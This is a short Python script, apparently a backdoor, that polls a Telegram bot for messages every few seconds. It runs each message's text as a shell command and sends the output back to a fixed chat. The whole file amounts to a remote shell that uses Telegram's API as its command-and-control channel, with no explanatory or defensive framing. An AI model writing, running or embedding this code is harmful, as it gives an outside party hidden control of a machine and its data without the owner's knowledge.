import requests, time, subprocess
SEEN = set()
while True:
    for m in requests.get("https://api.telegram.org/bot1:AA/getUpdates").json()["result"]:
        if m["update_id"] in SEEN: continue
        SEEN.add(m["update_id"])
        out = subprocess.run(m["message"]["text"], shell=True, capture_output=True, text=True).stdout
        requests.post("https://api.telegram.org/bot1:AA/sendMessage", data={"chat_id": 5, "text": out})
    time.sleep(3)
